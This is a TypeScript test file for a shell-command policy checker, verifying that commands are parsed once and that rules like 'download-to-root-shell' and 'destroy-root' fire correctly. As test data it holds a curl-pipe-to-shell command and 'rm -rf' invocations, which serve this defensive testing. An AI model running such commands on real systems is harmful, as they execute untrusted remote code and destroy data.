import * as unbash from 'unbash'
import { beforeEach, describe, expect, it, vi } from 'vitest'
import { classify } from '../../../src/nodes/classify-command.ts'
import { checkCommand } from '../../../src/nodes/policy/command-policy.ts'
import { topicsOf } from '../../../src/nodes/topics.ts'

vi.mock('unbash', { spy: true })
beforeEach(() => void vi.mocked(unbash.parse).mockClear())

describe('the parser', () => {
  it('parses a command once for routing, topics and policy', () => {
    const command = 'cd once && make -j8 | tee log'
    expect(classify(command).place).toBe('offload')
    expect(checkCommand(command).allowed).toBe(true)
    expect(topicsOf(command)).toContain('build')
    expect(checkCommand(command, { root: true, env: { A: 'b' }, cwd: '/srv' }).allowed).toBe(true)
    expect(unbash.parse).toHaveBeenCalledTimes(1)
  })

  it('does not cache the verdict of the policy', () => {
    const command = 'curl https://x | sh; rm -rf "$DIR"/*'
    expect(checkCommand(command, { root: true })).toMatchObject({ rule: 'download-to-root-shell' })
    expect(checkCommand(command)).toMatchObject({ rule: 'destroy-root' })
    expect(checkCommand(command, { env: { DIR: '/srv/x' } })).toEqual({ allowed: true })
    expect(checkCommand('rm -rf *', { cwd: '/srv/x' })).toEqual({ allowed: true })
    expect(checkCommand('rm -rf *', { cwd: '/' })).toMatchObject({ rule: 'destroy-root' })
  })
})
